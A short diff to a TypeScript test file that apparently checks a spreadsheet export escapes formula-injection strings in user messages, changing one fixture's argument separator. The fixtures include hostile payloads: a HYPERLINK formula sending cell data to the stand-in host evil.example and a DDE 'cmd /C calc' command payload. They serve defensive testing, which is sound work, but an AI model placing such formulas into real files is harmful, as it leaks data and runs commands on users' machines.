@@ -14,7 +14,7 @@ let admin: ApiClient;
 
 const HOSTILE_TEXTS = [
   'Where is my order?\r\n=HYPERLINK("https://evil.example/?"&A1,"Click")',
-  'Second line below\n+SUM(1,2)',
+  'Second line below\n+SUM(1;2)',
   'A lone carriage return\r@SUM(A1)',
   '-2+3+cmd|\' /C calc\'!A0',
   '\uFF1D1+2 in full width',
@@ -64,7 +64,7 @@ describe('the cells of a hostile text', () => {
     const messages = rows.map((row) => row[header.indexOf('user_message')]).reverse();
     expect(messages).toEqual([
       'Where is my order?\n\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
-      "Second line below\n'+SUM(1,2)",
+      "Second line below\n'+SUM(1;2)",
       "A lone carriage return\n'@SUM(A1)",
       "'-2+3+cmd|' /C calc'!A0",
       "'\uFF1D1+2 in full width",
